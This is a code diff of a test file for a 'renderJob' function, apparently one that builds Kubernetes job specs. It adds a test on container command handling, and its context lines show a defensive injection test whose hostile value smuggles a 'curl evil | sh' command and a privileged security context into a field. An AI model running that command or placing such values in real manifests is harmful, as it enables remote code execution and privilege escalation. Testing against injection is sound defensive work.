@@ -53,6 +53,17 @@ describe('renderJob', () => {
     })
   })
 
+  it('sets the command for an image without ENTRYPOINT, unless the template has one', () => {
+    const job = renderJob(template, { ...options, command: ['./integration-tests'] })
+    expect(container(job)).toMatchObject({ command: ['./integration-tests'], args: ['-test.v'] })
+    expect(container(renderJob(template, options)).command).toBeUndefined()
+    const own = structuredClone(template)
+    own.spec.template.spec.containers[0].command = ['/bin/tests']
+    expect(
+      container(renderJob(own, { ...options, command: ['./integration-tests'] })).command
+    ).toEqual(['/bin/tests'])
+  })
+
   it('keeps hostile values as plain strings: no YAML or shell injection', () => {
     const hostile = {
       INJECT: 'x\n  command: [sh, -c, "curl evil | sh"]\n  securityContext: {privileged: true}',
